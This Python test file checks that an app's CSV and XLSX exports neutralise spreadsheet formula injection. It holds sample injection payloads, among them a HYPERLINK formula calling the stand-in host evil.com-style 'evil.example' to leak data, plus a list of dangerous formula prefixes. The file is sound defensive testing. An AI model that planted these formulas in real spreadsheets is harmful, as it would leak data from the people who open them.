"""Formula injection: every route that answers a CSV or XLSX file writes what people typed (names,
topics, contents, an uploaded file's header...) so that no spreadsheet program reads it as a formula.
Hostile values go into everything the exports show; each export is downloaded and parsed, and no text
cell may start with = + - @ (or a tab, a carriage return, a full-width form) unguarded, nor be an
XLSX formula. The routes that answer spreadsheets are found by asking every GET route of the app,
so an export added later without being listed here fails the test."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.activities.models import Suggestion
from app.cases.models import CaseCategory
from app.core import spreadsheets
from app.deputies.models import RosterEntry
from tests.activities.world import EAST, put_activity
from tests.binder.album_world import put_photo
from tests.cases.world import build_case_county, put_case
from tests.compliance.compliance_world import put_rules
from tests.deputies.deputy_world import add_deputy, signed_in
from tests.isolation.routes import ID_TABLES, endpoints

LINK = '=HYPERLINK("http://evil.example/?leak","x")'
# Text a spreadsheet program would start a formula with (OWASP's list, and the full-width forms).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
T = "/t/{tenant_slug:str}"
TEMPLATES = ("deputies.csv", "deputies.xlsx", "roster.csv", "roster.xlsx")
DEPUTY = {"@SUM(A1)", "-1+1", LINK}  # name, occupation, work unit
ROSTER = {"\t=1+1", "\r=1+1", "＝1+1", "@SUM(A1)"}  # a voter's name, note and work unit; the deputy


async def hostile_world(app, database, owner_sql):
    cc = await build_case_county(database)
    t, today = cc.tenant.id, date.today()
    evil = await add_deputy(database, cc.county, "@SUM(A1)", station=EAST)
    cc.deputies["@SUM(A1)"] = evil
    await owner_sql("UPDATE deputies SET occupation = '-1+1', work_unit = $1 WHERE id = $2", LINK, evil)
    async with database.transaction(tenant_id=t) as db:
        db.add(RosterEntry(tenant_id=t, deputy_id=evil, name="\t=1+1", note="\r=1+1", work_unit="＝1+1"))
        category = CaseCategory(tenant_id=t, code="evil", name="-2+3", sort=99)
        db.add(category)
        db.add(Suggestion(tenant_id=t, deputy_id=evil, title="+1", filed_on=today))
        await db.flush()
        cc.categories["evil"] = category.id
    visit = await put_activity(database, cc.ac, kind="visit", starts_at=datetime.now(timezone.utc) - timedelta(hours=3),
                               topic=LINK, present=("@SUM(A1)", "张伟"))
    await put_photo(database, cc.ac, visit)  # no caption: the binder's photo album shows the topic
    await put_case(database, cc, content=LINK, person_name="+1", category="evil")
    await put_rules(database, cc.ac, [dict(code="evil", name=LINK, subject="deputy", counts="activities",
                                           kind_codes=["visit"], period="year", minimum=1)])
    async with signed_in(app, cc.county, "admin") as client:
        job = await _upload(client, cc.slug)
    return cc, evil, job


async def _upload(client, slug: str) -> int:
    """A roster file whose header row carries a formula: its preview lists the unknown column."""
    from tests.factories import csrf_from

    out = io.StringIO()
    csv.writer(out).writerows([["代表姓名", "选民姓名", LINK], ["@SUM(A1)", "甲", "x"]])
    token = csrf_from((await client.get(f"/t/{slug}/imports")).text)
    r = await client.post(f"/t/{slug}/imports", data={"_csrf_token": token, "kind": "roster"},
                          files={"file": ("r.csv", out.getvalue().encode(), "text/csv")}, follow_redirects=False)
    assert r.status_code == 303, r.text[:500]
    return int(r.headers["location"].rsplit("/", 1)[1])


def exports(evil: int, job: int) -> dict[str, list[tuple[str, set[str]]]]:
    """Every route that answers a spreadsheet -> [(address under /t/<slug>, hostile values it must show)]."""
    year = date.today().year
    return {
        f"{T}/deputies/export.csv": [("/deputies/export.csv", DEPUTY)],
        f"{T}/deputies/export.xlsx": [("/deputies/export.xlsx", DEPUTY)],
        f"{T}/deputies/{{deputy_id:int}}/roster/export.csv": [(f"/deputies/{evil}/roster/export.csv", ROSTER)],
        f"{T}/deputies/{{deputy_id:int}}/roster/export.xlsx": [(f"/deputies/{evil}/roster/export.xlsx", ROSTER)],
        f"{T}/deputies/{{deputy_id:int}}/attendance/{{year:int}}/report.csv":
            [(f"/deputies/{evil}/attendance/{year}/report.csv", {LINK, "@SUM(A1)"})],
        f"{T}/deputies/{{deputy_id:int}}/attendance/{{year:int}}/report.xlsx":
            [(f"/deputies/{evil}/attendance/{year}/report.xlsx", {LINK, "@SUM(A1)"})],
        f"{T}/compliance/export.csv": [("/compliance/export.csv", {LINK, "@SUM(A1)"})],
        f"{T}/compliance/export.xlsx": [("/compliance/export.xlsx", {LINK, "@SUM(A1)"})],
        f"{T}/cases/register.xlsx": [("/cases/register.xlsx", {LINK, "+1"})],
        f"{T}/cases/quarterly.xlsx": [("/cases/quarterly.xlsx", {"-2+3"})],
        f"{T}/suggestions/export.xlsx": [("/suggestions/export.xlsx", {"+1", "@SUM(A1)"})],
        f"{T}/points/export.xlsx": [("/points/export.xlsx", {"@SUM(A1)"})],
        f"{T}/binder/attendance.xlsx": [(f"/binder/attendance.xlsx?year={year}", {LINK})],
        f"{T}/binder/reception.xlsx": [(f"/binder/reception.xlsx?year={year}", set())],
        f"{T}/binder/reports.xlsx": [(f"/binder/reports.xlsx?year={year}", set())],
        f"{T}/binder/receptions-of-deputies.xlsx": [(f"/binder/receptions-of-deputies.xlsx?year={year}", set())],
        f"{T}/binder/book.xlsx": [(f"/binder/book.xlsx?year={year}", {LINK, "@SUM(A1)", "+1"})],
        f"{T}/binder/voter-contacts.xlsx": [(f"/binder/voter-contacts.xlsx?year={year}{reveal}",
                                             {"\t=1+1", "＝1+1", "@SUM(A1)"}) for reveal in ("", "&reveal=1")],
        f"{T}/binder/album.xlsx": [(f"/binder/album.xlsx?year={year}", {LINK})],
        f"{T}/binder/archive.xlsx": [(f"/binder/archive.xlsx?year={year}", {"@SUM(A1)"})],  # the stationed deputy
        f"{T}/imports/{{job_id:int}}/problems.csv": [(f"/imports/{job}/problems.csv", {LINK})],
        f"{T}/imports/template/{{filename:str}}": [(f"/imports/template/{name}", set()) for name in TEMPLATES],
    }


def is_spreadsheet(r) -> bool:
    kind = r.headers.get("content-type", "")
    return kind.startswith("text/csv") or "spreadsheetml" in kind or "excel" in kind


def cells(r) -> list[object]:
    """Every cell of the file; XLSX formulas fail here."""
    if r.headers["content-type"].startswith("text/csv"):
        assert r.content.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese
        return [v for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for v in row]
    book = load_workbook(io.BytesIO(r.content))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                out.append(cell.value)
    return out


def assert_guarded(values: list[object], where: str) -> None:
    for v in values:
        if isinstance(v, str) and not NUMBER.fullmatch(v):  # a CSV number is text; a negative one may stay
            assert not v.startswith(DANGEROUS), (where, v)


def shown(values: list[object], hostile: str) -> bool:
    # XML reads a lone carriage return back as a line feed
    return any(isinstance(v, str) and v.replace("\r", "\n") == ("'" + hostile).replace("\r", "\n") for v in values)


@pytest.fixture
async def world(app, database, owner_sql):
    return await hostile_world(app, database, owner_sql)


async def test_every_export_neutralises_formulas(app, world):
    cc, evil, job = world
    async with signed_in(app, cc.county, "admin") as client:
        for path, downloads in exports(evil, job).items():
            for address, hostile in downloads:
                r = await client.get(client.base + address)
                assert r.status_code == 200 and is_spreadsheet(r), (address, r.status_code)
                assert "attachment" in r.headers["content-disposition"]
                values = cells(r)
                assert_guarded(values, address)
                for value in hostile:  # the hostile text is there, shown as text
                    assert shown(values, value), (address, value)


async def test_xlsx_numbers_stay_numbers(app, world):
    cc, evil, job = world
    async with signed_in(app, cc.county, "admin") as client:
        r = await client.get(f"{client.base}/deputies/export.xlsx")
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    evil_row = next(row for row in rows if row[0] == "'@SUM(A1)")
    assert evil_row[2] == 18 and isinstance(evil_row[2], int)  # the term (届次)


def test_the_writer_guards_text_and_leaves_numbers_and_dates():
    day = date(2026, 5, 1)
    hostile = [LINK, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "-"]
    body = spreadsheets.to_xlsx(["=head"], [[-1, 2.5, day, "\x01=1+1", *hostile, "普通文字", None]], "表")
    sheet = load_workbook(io.BytesIO(body)).active
    head, row = list(sheet.iter_rows())
    assert head[0].value == "'=head"
    assert [c.data_type for c in row[:3]] == ["n", "n", "d"] and row[0].value == -1 and row[2].value.date() == day
    assert row[3].value == "'=1+1"  # a control character XML cannot hold is dropped, then the guard sees "="
    assert [c.value.replace("\n", "\r") for c in row[4:12]] == ["'" + v for v in hostile]
    assert row[12].value == "普通文字" and all(c.data_type != "f" for c in row)
    text = spreadsheets.to_csv(["a"], [[-1, LINK, "-", None, "x"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["-1", "'" + LINK, "'-", "", "x"]


async def test_no_route_answers_a_spreadsheet_unlisted(app, world, owner_sql):
    """Every GET route, as the county admin of the hostile county with its records' ids: whatever
    answers a spreadsheet must be one of the exports above (and is guarded too)."""
    cc, evil, job = world
    listed = exports(evil, job)
    fills = {"tenant_slug": cc.slug, "deputy_id": evil, "job_id": job, "year": date.today().year,
             "filename": "deputies.csv"}
    for name, table in ID_TABLES.items():
        if name not in fills:
            found = await owner_sql(f"SELECT min(id) AS id FROM {table} WHERE tenant_id = $1", cc.tenant.id)
            fills[name] = found[0]["id"] or 1
    answered = set()
    async with signed_in(app, cc.county, "admin") as client:
        for endpoint in (e for e in endpoints(app) if e.method == "GET"):
            values = {name: fills.get(name, {"int": 1, "path": "x"}.get(kind, "x")) for name, kind in endpoint.params}
            r = await client.get(endpoint.url(values), follow_redirects=False)
            if r.status_code == 200 and is_spreadsheet(r):
                answered.add(endpoint.path)
                assert_guarded(cells(r), endpoint.path)
            # a route named like a spreadsheet is one, whatever it answered to these ids
            if re.search(r"\.(csv|xlsx)$", endpoint.path):
                assert endpoint.path in listed, f"{endpoint} is not in exports(): add it with hostile data"
    assert answered - set(listed) == set(), "routes that answer spreadsheets but are not in exports()"
    assert answered == set(listed)  # and the sweep really reached every listed export


def test_only_the_core_writer_writes_spreadsheets():
    """CSV and XLSX are written by app.core.spreadsheets alone (its guard inside), never by hand."""
    root = Path(__file__).resolve().parents[2] / "app"
    writer = re.compile(r"csv\.writer|csv\.DictWriter|(?<!load_)Workbook\(|import Workbook|text/csv|spreadsheetml")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "spreadsheets.py" and writer.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
